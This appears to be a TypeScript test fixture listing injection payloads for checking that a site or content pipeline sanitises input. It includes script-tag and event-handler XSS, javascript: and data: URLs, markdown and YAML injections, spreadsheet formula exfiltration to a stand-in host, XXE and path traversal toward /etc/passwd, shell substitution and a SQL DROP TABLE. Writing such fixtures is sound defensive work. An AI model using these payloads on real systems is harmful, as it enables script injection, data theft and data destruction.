/**
 * Texts that try to be more than text, by name. One that runs calls `__trap`, one that loads asks `evil.example`;
 * neither ever happens. Each is put into every field, every form of body and into file names.
 */

const BACKTICKS = '```';
const deep = (piece: string, times: number, end = ''): string => piece.repeat(times) + end.repeat(times);

/** Tags and handlers. */
const tags = {
  script: '<script>__trap()</script>',
  'script in capitals': '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  'script with a slash': '<script/x>__trap()</script/x>',
  'script within script': '<scr<script>ipt>__trap()</scr</script>ipt>',
  'script left open': '<script>__trap()//',
  'script of a module': '<script type="module">import "https://evil.example/m.js"</script>',
  'end of a script': '</script><script>__trap()</script>',
  'end of a script in capitals': '</SCRIPT ><img src=x onerror=__trap()>',
  'comment in a script': '<!--<script>',
  'end of a title': '</title><script>__trap()</script>',
  'end of a style': '</style><script>__trap()</script>',
  'end of a textarea': '</textarea><script>__trap()</script>',
  'end of a body': '</p></div></main></body></html><script>__trap()</script>',
  'img onerror': '<img src=x onerror=__trap()>',
  'img with slashes': '<img/src="x"/onerror=__trap()>',
  'img srcset': '<img srcset="https://evil.example/1.png 1x, https://evil.example/2.png 2x">',
  'img left open': '<img src="https://evil.example/leak?',
  'svg onload': '<svg onload=__trap()>',
  'svg script': '<svg><script xlink:href="https://evil.example/x.js"></script></svg>',
  'svg animate':
    '<svg><a><animate attributeName=href values=javascript:__trap() /><text y=9>x</text></a></svg>',
  'svg foreignObject': '<svg><foreignObject><iframe onload=__trap()></iframe></foreignObject></svg>',
  'svg style': '<svg></p><style><a id="</style><img src=1 onerror=__trap()>">',
  'svg use': '<svg><use href="https://evil.example/x.svg#x"/></svg>',
  'math href':
    '<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:__trap()">x</math>',
  'math mutation':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=__trap()&gt;">',
  iframe: '<iframe src="javascript:__trap()"></iframe>',
  'iframe srcdoc': '<iframe srcdoc="<script>parent.__trap()</script>"></iframe>',
  object: '<object data="data:text/html,<script>__trap()</script>"></object>',
  embed: '<embed src="https://evil.example/x.swf">',
  style: '<style>body{background:url(https://evil.example/b.png)}</style>',
  'style import': '<style>@import "https://evil.example/x.css";</style>',
  'style attribute': '<p style="position:fixed;inset:0;background:url(https://evil.example/c.png)">x</p>',
  'meta refresh': '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  'meta policy': '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  base: '<base href="https://evil.example/">',
  'link stylesheet': '<link rel=stylesheet href=https://evil.example/x.css>',
  'link preload': '<link rel=preload as=image href=https://evil.example/p.png>',
  form: '<form action=https://evil.example/><button>x</button></form>',
  formaction: '<button formaction=javascript:__trap()>x</button>',
  input: '<input autofocus onfocus=__trap()>',
  details: '<details open ontoggle=__trap()>',
  video: '<video><source onerror=__trap()></video>',
  'body onload': '<body onload=__trap()>',
  marquee: '<marquee onstart=__trap()>',
  'custom element': '<x-y onclick=__trap() tabindex=1 autofocus onfocus=__trap()>',
  template: '<template><script>__trap()</script></template>',
  noscript: '<noscript><p title="</noscript><img src=x onerror=__trap()>">',
  xmp: '<xmp><p title="</xmp><script>__trap()</script>">',
  'clobbered ids': '<a id=results name=q></a><form id=q><input name=value></form>',
  'a anchor with a name': '<a name=currentScript href=//evil.example>x</a>',
  popover: '<button popovertarget=x>x</button><div popover id=x onbeforetoggle=__trap()>x</div>',
};

/** What breaks out of an attribute, a string or an element. */
const breaks = {
  'double quote': '" onmouseover="__trap()" x="',
  'single quote': "' onmouseover='__trap()' x='",
  'quote and tag': '"><script>__trap()</script>',
  'no quote': 'x onmouseover=__trap() autofocus',
  backticks: '`onmouseover=`__trap()`',
  'end of a comment': '--><script>__trap()</script><!--',
  'odd end of a comment': '<!--!><img src=x onerror=__trap()>--!>',
  cdata: '<![CDATA[<script>__trap()</script>]]>',
  'end of cdata': ']]><script>__trap()</script>',
  'processing instruction': '<?xml version="1.0"?><?php echo 1 ?>',
  doctype: '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
  'end of an entry': '</title></entry><entry><title>x',
  'end of JSON': '"}]}</script><script>__trap()</script>',
  'string of a script': "';__trap();//",
  backslashes: '\\"});__trap();//\\u003cscript\\u003e',
  'template braces': '{{constructor.constructor("__trap()")()}}',
  'template literal': '${__trap()}',
  'braces of JSX': '{__trap()}<Fragment set:html={"<script>__trap()</script>"} />',
  'set:html': '<p set:html="<script>__trap()</script>" is:raw>',
  shortcodes: '<%= __trap() %>#{__trap()}[[${__trap()}]]',
  'replacement patterns': "$&$`$'$1$<x>$$",
};

/** Addresses. */
const addresses = {
  javascript: 'javascript:__trap()',
  'javascript in both cases': 'JaVaScRiPt:__trap()',
  'javascript behind a blank': ' javascript:__trap()',
  'javascript with a tab': 'java\tscript:__trap()',
  'javascript with a line end': 'java\nscript:__trap()',
  'javascript with a control': '\u0001javascript:__trap()',
  'javascript in references': '&#106;avascript&colon;__trap()',
  'javascript in references without end': '&#x6A&#x61&#x76&#x61script:__trap()',
  'javascript in percents': 'javascript%3A__trap()',
  'javascript with a full-width colon': 'javascript：__trap()',
  'javascript with a comment': 'javascript://example.com/%0A__trap()',
  vbscript: 'vbscript:msgbox(1)',
  'data of HTML': 'data:text/html;base64,PHNjcmlwdD5fX3RyYXAoKTwvc2NyaXB0Pg==',
  'data of an image': 'data:image/svg+xml,<svg onload=__trap()>',
  'blob and file': 'blob:https://evil.example/1 file:///etc/passwd',
  'view-source': 'view-source:https://evil.example/',
  'no scheme': '//evil.example/x',
  'backslashes for slashes': '\\\\evil.example\\x',
  'up and away': '../../../../etc/passwd',
  'a user in front': 'https://example.com@evil.example/',
};

/** Markdown, and what stands around it in a file. */
const markdown = {
  'link to a script': '[字](javascript:__trap())',
  'link with a tab': '[字](java&Tab;script:__trap())',
  'link in brackets': '[字](<javascript:__trap()>)',
  'link by reference': '[字][甲]\n\n[甲]: javascript:__trap() "x"',
  'link with a title': '[字](https://example.com "\\" onmouseover=\\"__trap()")',
  autolink: '<javascript:__trap()>',
  'autolink of data': '<data:text/html,<script>__trap()</script>>',
  picture: '![图](https://evil.example/p.png)',
  'picture with a script': '![图](javascript:__trap())',
  'picture as a link': '[![图](x" onerror="__trap\\(\\))](javascript:__trap\\(\\))',
  'HTML in a quotation': '> <script>__trap()</script>\n> > <img src=x onerror=__trap()>',
  'HTML in a list': '- <details open ontoggle=__trap()>\n  - <svg onload=__trap()>',
  'HTML in code left open': `${BACKTICKS}html"onmouseover="__trap()\n<script>__trap()</script>`,
  'HTML over lines': '<div\nonclick=__trap()\nstyle=color:red\n>\n\n**字**\n\n</div>',
  footnote: '[^1]\n\n[^1]: <script>__trap()</script>',
  table: '| <script>__trap()</script> | [x](javascript:__trap()) |\n|---|---|\n| a | b |',
  comment: '<!-- <script>__trap()</script> -->',
  'front matter fence': '---\ntitle: 换了\nid: ../../x\n---\n',
  'front matter in JavaScript': '---js\n{ x: (globalThis.__ran = 1) }\n---\n',
  'end of a document': '...\n--- !<tag:yaml.org,2002:js/function> "function () { __trap() }"',
  'import of MDX': 'import x from "https://evil.example/x.js"\n\nexport default __trap()',
};

/** YAML. */
const yaml = {
  'YAML alias': '*a',
  'YAML anchor': '&a [a, a, a]',
  'YAML bomb': '[&a [x, x, x], &b [*a, *a, *a], &c [*b, *b, *b], &d [*c, *c, *c], *d]',
  'YAML nesting': deep('[', 400, ']'),
  'YAML of JavaScript': '!!js/function "function () { __trap() }"',
  'YAML tag': '!!python/object/apply:os.system ["true"]',
  'YAML merge': '{<<: {id: x}, __proto__: {title: x}}',
  'YAML block': '|\n  甲\n乙: 丙',
};

/** What a spreadsheet would calculate. */
const formulas = {
  'formula =': '=HYPERLINK("https://evil.example/?"&A1,"点")',
  'formula +': "+cmd|' /C calc'!A0",
  'formula -': '-2+3+cmd|x',
  'formula @': '@SUM(1+1)*cmd|x',
  'formula full-width': '＝1+1',
  'formula behind an apostrophe': "'=1+1",
  'formula behind a quote': '"=1+1"',
  'formula in the next cell': 'x",=1+1,"',
  'formula in the next row': 'x"\r\n=1+1,',
  'formula behind an invisible mark': '\u200B=1+1',
};

/** Characters that are not seen, or turn what stands around them. */
const characters = {
  'right to left': '\u202Egnp.exe\u202C',
  'isolates left open': '\u2067\u2066\u202B\u202D甲',
  'right-to-left mark': '甲\u200F\u061C\u200E乙',
  'zero width': '甲\u200B\u200C\u2060\uFEFF乙',
  'tag characters': '甲\u{E0001}\u{E0073}\u{E0063}\u{E007F}乙',
  'variation selectors': '甲\uFE0F\u{E0101}\u{E01EF}乙',
  'soft hyphen': '甲\u00AD乙',
  'null byte': '甲\u0000<script\u0000>__trap()</script>',
  controls: '甲\u0007\u0008\u000B\u000C\u007F\u0085\u009B31m乙',
  'escape sequence': '\u001B[2J\u001B]0;x\u0007\u001B]8;;https://evil.example\u0007x\u001B]8;;\u0007',
  'line separators': '甲\u2028__trap()\u2029乙',
  'line ends': '甲\r\n\r\n<script>__trap()</script>\r乙',
  'half of a pair': '甲\uD83D乙\uDE00',
  noncharacters: '甲\uFFFE\uFFFF\u{1FFFE}\uFDD0乙',
  'private use': '甲\uE000\u{F0000}乙',
  'many accents': `甲${'\u0301\u0489'.repeat(200)}`,
  'full-width tag': '＜script＞__trap()＜/script＞',
  'small signs': '﹤script﹥__trap()﹤/script﹥',
  'line fillers': 'ㅤ\u115F\u1160\uFFA0⠀甲',
};

/** References, escapes, long words, names that objects have. */
const others = {
  'references to a tag': '&lt;script&gt;__trap()&lt;/script&gt;',
  'references twice over': '&amp;lt;script&amp;gt;__trap()&amp;lt;/script&amp;gt;',
  'references by number': '&#60;script&#62;__trap()&#60;/script&#62;',
  'references without end': '&#x3Cscript&#x3E__trap()&ltimg src=x onerror=__trap()&gt',
  'reference to null': '&#0;&#x110000;&#xD800;&unknown;&',
  'escapes of JavaScript': '\\x3cscript\\x3e__trap()\\x3c/script\\x3e',
  'escapes of an address': '%3Cscript%3E__trap()%3C/script%3E',
  'broken percents': '%E0%A4%A%%00%',
  'UTF-7': '+ADw-script+AD4-__trap()+ADw-/script+AD4-',
  prototype: '__proto__',
  constructor: 'constructor',
  'prototype in an address': '?__proto__[x]=1&constructor[prototype][x]=1#__proto__',
  'long word': 'W'.repeat(3000),
  'long word of Han': '园'.repeat(3000),
  'many tags': deep('<b>', 300, '</b>'),
  'many open brackets': deep('[', 1500),
  'many quotations': `${deep('> ', 300)}甲`,
  'many stars': deep('*甲', 500),
  'query of a search': '-甲 "乙 zone:丙 (?:x+)+$ [^]]* \\',
  shell: '$(touch /tmp/x); `touch /tmp/x` | cat && x',
  SQL: "'; DROP TABLE articles; --",
};

export const payloads: Readonly<Record<string, string>> = {
  ...tags,
  ...breaks,
  ...addresses,
  ...markdown,
  ...yaml,
  ...formulas,
  ...characters,
  ...others,
};
